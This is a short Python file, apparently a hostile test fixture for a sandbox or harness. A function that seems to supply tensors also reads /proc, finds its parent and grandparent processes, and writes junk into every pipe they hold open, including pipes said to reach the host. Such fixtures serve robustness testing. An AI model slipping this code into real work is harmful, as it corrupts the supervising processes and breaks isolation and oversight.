"""writes_to_its_parents: writes into every pipe of the processes that started it, those to the host too."""

from __future__ import annotations

import contextlib
import os
import stat
from pathlib import Path

import tensorflow as tf


def draws() -> dict[str, tf.Tensor]:
    parent = os.getppid()
    above = Path(f"/proc/{parent}/stat").read_text(encoding="utf-8").rpartition(")")[2].split()[1]
    for path in (path for process in (parent, above) for path in Path(f"/proc/{process}/fd").iterdir()):
        with contextlib.suppress(OSError):
            if stat.S_ISFIFO(path.stat().st_mode):
                descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(descriptor, b"scribble " * 100)
                os.close(descriptor)
    return {"x": tf.zeros([1])}
